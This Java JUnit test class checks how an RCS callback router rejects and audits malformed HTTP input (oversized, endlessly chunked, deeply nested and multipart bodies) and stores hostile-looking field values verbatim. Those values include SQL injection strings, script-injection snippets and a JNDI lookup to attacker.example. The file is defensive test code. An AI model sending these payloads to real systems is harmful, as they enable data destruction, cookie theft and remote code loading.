package io.rcsrouter;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.rcsrouter.support.Callbacks;
import io.rcsrouter.support.RouterHarness;
import io.rcsrouter.support.Samples;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * Bad input over real HTTP: every request in {@code src/test/resources/bad-input/} gets its status, a JSON error
 * that names the problem, and a REJECTED audit row with the reason and the body; nothing reaches a queue. Plus the
 * limits that are generated rather than stored (size, nesting), and the Content-Types a sender may get wrong.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class BadInputTest {

    static final ObjectMapper JSON = new ObjectMapper();
    RouterHarness router;

    /**
     * One stored bad request: header lines, a line "---", then the body verbatim. Headers: "expect" (the status),
     * "content-type" (or "none"), "error-contains" (a substring of the JSON error and the audit detail), "about"
     * (why a correct router refuses it; optional), and "body-encoding: base64" for a body of bytes that a text
     * file cannot show (invalid UTF-8, NUL, a byte-order mark): the body is then Base64, wrapped as you like.
     */
    record BadRequest(String name, int expect, String contentType, String errorContains, byte[] body) {

        private static final java.util.Set<String> HEADERS =
                java.util.Set.of("expect", "content-type", "error-contains", "about", "body-encoding");

        @Override
        public String toString() {
            return name;
        }

        /** What the audit row keeps: the body as text, bytes that are not UTF-8 and NUL shown as U+FFFD. */
        String storedPayload() {
            return new String(body, StandardCharsets.UTF_8).replace((char) 0, '\uFFFD');
        }

        static BadRequest read(Path file) {
            try {
                byte[] bytes = Files.readAllBytes(file);
                int sep = indexOf(bytes, "\n---\n".getBytes(StandardCharsets.US_ASCII));
                if (sep < 0) {
                    throw new IllegalStateException(file + ": no line \"---\" between the headers and the body");
                }
                byte[] body = Arrays.copyOfRange(bytes, sep + 5, bytes.length);
                Map<String, String> h = new java.util.HashMap<>();
                for (String line : new String(bytes, 0, sep, StandardCharsets.UTF_8).split("\n")) {
                    int colon = line.indexOf(':');
                    String name = line.substring(0, colon).strip();
                    if (!HEADERS.contains(name)) {
                        throw new IllegalStateException(file + ": unknown header '" + name + "'");
                    }
                    h.put(name, line.substring(colon + 1).strip());
                }
                String encoding = h.getOrDefault("body-encoding", "verbatim");
                if (encoding.equals("base64")) {
                    body = Base64.getMimeDecoder().decode(body);
                } else if (!encoding.equals("verbatim")) {
                    throw new IllegalStateException(file + ": unknown body-encoding '" + encoding + "'");
                }
                String ct = h.get("content-type");
                return new BadRequest(file.getFileName().toString(), Integer.parseInt(h.get("expect")),
                        ct == null || ct.equals("none") ? null : ct, h.get("error-contains"), body);
            } catch (IOException e) {
                throw new java.io.UncheckedIOException(e);
            }
        }

        private static int indexOf(byte[] haystack, byte[] needle) {
            outer:
            for (int i = 0; i + needle.length <= haystack.length; i++) {
                for (int j = 0; j < needle.length; j++) {
                    if (haystack[i + j] != needle[j]) {
                        continue outer;
                    }
                }
                return i;
            }
            return -1;
        }
    }

    @BeforeAll
    void start() throws Exception {
        router = RouterHarness.start(Map.of());
    }

    @AfterAll
    void stop() throws Exception {
        router.close();
    }

    static Stream<BadRequest> corpus() throws IOException {
        return Files.list(Path.of("src/test/resources/bad-input")).sorted().map(BadRequest::read);
    }

    @Test
    void corpusIsThere() throws IOException {
        assertThat(corpus().count()).isGreaterThanOrEqualTo(65);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("corpus")
    void storedBadRequestIsRefusedAndRecorded(BadRequest bad) throws Exception {
        assertRejected(bad.body(), bad.storedPayload(), bad.contentType(), bad.expect(), bad.errorContains());
    }

    @Test
    void bodyOverTheLimitIs413AndRecordedWithItsStart() throws Exception {
        String text = "x".repeat(70_000);
        String body = "{\"code\":\"4007\",\"data\":{\"type\":\"USER_MESSAGE\",\"from\":\"1\",\"messageId\":\"m\","
                + "\"userMessage\":{\"type\":\"TEXT\",\"text\":\"" + text + "\"}}}";
        Map<String, Object> row = assertRejected(body, "application/json", 413, "over the limit of 65536 bytes");
        assertThat((String) row.get("payload")).startsWith("{\"code\":\"4007\"").hasSizeLessThanOrEqualTo(262_144);
    }

    @Test
    void bodyOverTheServerHardLimitIs413AsJsonAndRecordedWithItsSize() throws Exception {
        byte[] body = ("[" + "1,".repeat(1_000_000) + "1]").getBytes(StandardCharsets.UTF_8); // 2,000,003 bytes
        long before = router.count("SELECT COUNT(*) FROM rcs_audit WHERE status = 'REJECTED'");
        var r = router.post("/callbacks/rcs", body, "application/json");
        assertThat(r.statusCode()).isEqualTo(413);
        assertThat(r.headers().firstValue("Content-Type")).hasValue("application/json");
        assertThat(JSON.readTree(r.body()).get("error").asText())
                .isEqualTo("body of 2000003 bytes is over the limit of 65536 bytes");
        await().atMost(Duration.ofSeconds(5)).untilAsserted(() ->
                assertThat(router.count("SELECT COUNT(*) FROM rcs_audit WHERE status = 'REJECTED'"))
                        .isEqualTo(before + 1));
        Map<String, Object> row = router.query("SELECT * FROM rcs_audit WHERE status = 'REJECTED' ORDER BY id DESC")
                .get(0);
        assertThat(row.get("detail")).isEqualTo("413 body of 2000003 bytes is over the limit of 65536 bytes");
        assertThat(row.get("payload")).isNull();
    }

    /**
     * A chunked body that never ends (no Content-Length): the server stops at its hard limit, answers 413 and closes
     * the connection, instead of reading on; the sender finds the connection closed long before it has sent its
     * 256 MiB.
     */
    @Test
    void aChunkedBodyThatNeverEndsIs413AndTheConnectionIsClosed() throws Exception {
        long before = router.count("SELECT COUNT(*) FROM rcs_audit WHERE status = 'REJECTED'");
        try (java.net.Socket socket = new java.net.Socket("127.0.0.1", router.port())) {
            socket.setSoTimeout(20_000);
            var answer = new java.io.ByteArrayOutputStream();
            Thread reader = new Thread(() -> {
                try {
                    socket.getInputStream().transferTo(answer);
                } catch (IOException e) {
                    // a reset after the answer: what was read is kept
                }
            });
            reader.start();
            var out = socket.getOutputStream();
            out.write(("POST /callbacks/rcs HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
                    + "Transfer-Encoding: chunked\r\n\r\n").getBytes(StandardCharsets.US_ASCII));
            byte[] chunk = ("10000\r\n" + "[1,".repeat(65_535 / 3) + "[\r\n").getBytes(StandardCharsets.US_ASCII);
            assertThat(chunk.length).isEqualTo(65_536 + 9);
            long sent = 0;
            long limit = 256L * 1024 * 1024;
            try {
                while (sent < limit && reader.isAlive()) {
                    out.write(chunk);
                    sent += 65_536;
                }
            } catch (IOException closed) {
                // the server closed the connection: what this test waits for
            }
            reader.join(20_000);
            assertThat(sent).as("bytes sent before the server closed the connection").isLessThan(limit);
            String response = answer.toString(StandardCharsets.UTF_8);
            assertThat(response).startsWith("HTTP/1.1 413").contains("application/json")
                    .contains("{\"error\":\"body of more than 1048576 bytes (read up to the server's limit) is over the"
                            + " limit of 65536 bytes\"}");
        }
        await().atMost(Duration.ofSeconds(5)).untilAsserted(() ->
                assertThat(router.count("SELECT COUNT(*) FROM rcs_audit WHERE status = 'REJECTED'"))
                        .isEqualTo(before + 1));
        assertThat(router.query("SELECT detail FROM rcs_audit WHERE status = 'REJECTED' ORDER BY id DESC").get(0))
                .containsEntry("detail", "413 body of more than 1048576 bytes (read up to the server's limit) is over"
                        + " the limit of 65536 bytes");
        // the router still answers on a new connection
        assertThat(router.postJson(Callbacks.text("after-endless-body", "19785550599", "hi")).statusCode())
                .isEqualTo(200);
    }

    @Test
    void hostileNestingIs400() throws Exception {
        String deep = "{\"a\":".repeat(2_000) + "1" + "}".repeat(2_000);
        assertRejected(deep, "application/json", 400, "nesting depth");
    }

    @Test
    void hugeStringIs400() throws Exception {
        String body = "{\"code\":\"4007\",\"data\":{\"type\":\"USER_MESSAGE\",\"from\":\"1\",\"messageId\":\"m\","
                + "\"userMessage\":{\"type\":\"TEXT\",\"text\":\"" + "y".repeat(20_000) + "\"}}}";
        assertRejected(body, "application/json", 400, "String value length");
    }

    @Test
    void getIsNotAllowed() throws Exception {
        assertThat(router.get("/callbacks/rcs").statusCode()).isEqualTo(405);
    }

    /** A sender that labels JSON wrongly, or not at all, still gets its callback accepted. */
    @ParameterizedTest
    @ValueSource(strings = {"application/x-www-form-urlencoded", "text/plain", "none", "application/json; charset=utf-8",
            "application/octet-stream"})
    void jsonIsAcceptedWhateverTheContentType(String contentType) throws Exception {
        // the characters a form decoder would mangle: + & = %
        String body = Samples.read("mo/13-text-bare-shape.json").replace("MxB4r3Txt0000000000013",
                "MxCt-" + contentType.hashCode()).replace("Hi, is my order shipped?", "1+1=2 & 100% sure ✓");
        var r = router.post("/callbacks/rcs", body, contentType.equals("none") ? null : contentType);
        assertThat(r.statusCode()).as(r.body()).isEqualTo(200);
        assertThat(r.body()).isIn("{\"status\":\"accepted\"}");
        await().atMost(Duration.ofSeconds(10)).untilAsserted(() ->
                assertThat(router.auditRow("event:MxCt-" + contentType.hashCode())).isNotNull()
                        .extractingByKey("payload").isEqualTo(body));
    }

    /**
     * The server takes a multipart body apart into fields and uploads and keeps no raw bytes, so the router cannot
     * read or record it: refused, even when a part holds a valid callback (a file part used to be accepted).
     */
    @ParameterizedTest
    @ValueSource(strings = {"field", "file"})
    void multipartIsRefusedNotUnpacked(String part) throws Exception {
        String eventId = "MxMultipart-" + part;
        String disposition = part.equals("file")
                ? "form-data; name=\"callback\"; filename=\"callback.json\"\r\nContent-Type: application/json"
                : "form-data; name=\"callback\"";
        String body = "--b0undary\r\nContent-Disposition: " + disposition + "\r\n\r\n"
                + Callbacks.text(eventId, "19785550103", "hi") + "\r\n--b0undary--\r\n";
        assertRejected(body.getBytes(StandardCharsets.UTF_8), "", "multipart/form-data; boundary=b0undary", 400,
                "a multipart/form-data request is not a callback");
        assertThat(router.auditRow("event:" + eventId)).isNull();
    }

    // --- input that looks hostile but is a valid callback: accepted, and kept exactly as sent ---

    /**
     * A byte-order mark before the JSON: RFC 8259 forbids sending one but lets a parser ignore it, and refusing it
     * would drop a real subscriber's message (an opt-out among them) over an invisible encoding signature. The
     * audit keeps the body as received, BOM included; the CRM request's raw is still the callback as JSON.
     */
    @Test
    void aLeadingByteOrderMarkIsIgnoredAndKeptInTheAudit() throws Exception {
        String json = Callbacks.text("MxBom", "19785550104", "Is my order shipped?");
        byte[] bom = {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF};
        byte[] body = new byte[bom.length + json.getBytes(StandardCharsets.UTF_8).length];
        System.arraycopy(bom, 0, body, 0, bom.length);
        System.arraycopy(json.getBytes(StandardCharsets.UTF_8), 0, body, bom.length, body.length - bom.length);

        var r = router.post("/callbacks/rcs", body, "application/json");

        assertThat(r.statusCode()).as(r.body()).isEqualTo(200);
        assertThat(r.body()).isEqualTo("{\"status\":\"accepted\"}");
        await().atMost(Duration.ofSeconds(10)).untilAsserted(() ->
                assertThat(router.auditRow("event:MxBom")).isNotNull()
                        .extractingByKey("status").isEqualTo("DELIVERED"));
        Map<String, Object> row = router.auditRow("event:MxBom");
        assertThat(row.get("payload")).isEqualTo("\uFEFF" + json);
        assertThat(row.get("route")).isEqualTo("CRM");
        JsonNode crmRequest = Files.readAllLines(router.dataDir().resolve("crm-outbox.jsonl")).stream()
                .filter(line -> line.contains("MxBom")).map(BadInputTest::readJson).findFirst().orElseThrow();
        assertThat(crmRequest.get("raw")).isEqualTo(JSON.readTree(json));
    }

    /** A field of a valid callback set to something an attacker would send: data, never code. */
    record HostileValue(String name, String field, String value) {
        @Override
        public String toString() {
            return name;
        }
    }

    static Stream<HostileValue> hostileButValid() {
        return Stream.of(
                new HostileValue("sql-in-text", "text", "'); DROP TABLE rcs_audit;--"),
                new HostileValue("sql-in-message-id", "messageId", "bad' OR '1'='1"),
                new HostileValue("sql-in-agent", "to", "kio_rcs'; DELETE FROM rcs_consent; --"),
                new HostileValue("script-in-text", "text", "<script>alert(document.cookie)</script>"),
                new HostileValue("html-in-carrier", "carrierId", "<img src=x onerror=alert(1)>"),
                new HostileValue("lookups-in-text", "text", "${jndi:ldap://attacker.example/a} {{7*7}} #{7*7}"),
                new HostileValue("camel-expression-in-message-id", "messageId", "${sys:user.home}${header.rcsType}"));
    }

    /**
     * SQL, script, template and expression payloads in otherwise valid fields are accepted (they are what the
     * subscriber or the gateway sent) and stored verbatim: nothing along the way interprets them.
     */
    @ParameterizedTest(name = "{0}")
    @MethodSource("hostileButValid")
    void hostileLookingValuesInValidCallbacksAreAcceptedAndStoredVerbatim(HostileValue hostile) throws Exception {
        String eventId = "MxHostile-" + hostile.name();
        ObjectNode callback = (ObjectNode) JSON.readTree(Callbacks.text(eventId, "19785550105", "hello"));
        ObjectNode data = (ObjectNode) callback.get("data");
        if (hostile.field().equals("text")) {
            ((ObjectNode) data.get("userMessage")).put("text", hostile.value());
        } else {
            data.put(hostile.field(), hostile.value());
        }
        String body = callback.toString();

        var r = router.postJson(body);

        assertThat(r.statusCode()).as(r.body()).isEqualTo(200);
        assertThat(r.body()).isEqualTo("{\"status\":\"accepted\"}");
        await().atMost(Duration.ofSeconds(10)).untilAsserted(() ->
                assertThat(router.auditRow("event:" + eventId)).isNotNull());
        Map<String, Object> row = router.auditRow("event:" + eventId);
        assertThat(row.get("payload")).isEqualTo(body);
        String column = Map.of("messageId", "message_id", "to", "agent", "carrierId", "carrier")
                .get(hostile.field());
        if (column != null) {
            assertThat(row.get(column)).isEqualTo(hostile.value());
        }
        assertThat(router.count("SELECT COUNT(*) FROM rcs_audit")).isPositive();
    }

    private static JsonNode readJson(String text) {
        try {
            return JSON.readTree(text);
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    private Map<String, Object> assertRejected(String body, String contentType, int status, String errorContains)
            throws Exception {
        return assertRejected(body.getBytes(StandardCharsets.UTF_8), body, contentType, status, errorContains);
    }

    /** {@code stored}: what the audit row must keep of {@code body}. */
    private Map<String, Object> assertRejected(byte[] body, String stored, String contentType, int status,
            String errorContains) throws Exception {
        long before = router.count("SELECT COUNT(*) FROM rcs_audit WHERE status = 'REJECTED'");
        var r = router.post("/callbacks/rcs", body, contentType);
        assertThat(r.statusCode()).as(r.body()).isEqualTo(status);
        assertThat(r.headers().firstValue("Content-Type")).hasValue("application/json");
        assertThat(r.headers().map().keySet()).noneMatch(h -> h.toLowerCase().startsWith("rcs"));
        JsonNode error = JSON.readTree(r.body());
        assertThat(error.get("error").asText()).contains(errorContains);
        assertPlainSentence(error.get("error").asText());
        await().atMost(Duration.ofSeconds(5)).untilAsserted(() ->
                assertThat(router.count("SELECT COUNT(*) FROM rcs_audit WHERE status = 'REJECTED'"))
                        .isEqualTo(before + 1));
        List<Map<String, Object>> rows = router.query(
                "SELECT * FROM rcs_audit WHERE status = 'REJECTED' ORDER BY id DESC");
        Map<String, Object> row = rows.get(0);
        assertThat((String) row.get("detail")).startsWith(status + " ").contains(errorContains);
        if (stored.length() < 60_000 && !stored.isBlank()) {
            assertThat(row.get("payload")).isEqualTo(stored);
        }
        assertThat(row.get("dedup_key")).isNull();
        return row;
    }

    /** An error is for the sender: it names the problem in words, not the parser's classes and switches. */
    private static void assertPlainSentence(String error) {
        assertThat(error).isNotBlank()
                .doesNotContain("`", "com.fasterxml", "jackson", "Feature", "StreamReadConstraints", "Exception",
                        "\tat ", "[Source:");
    }
}
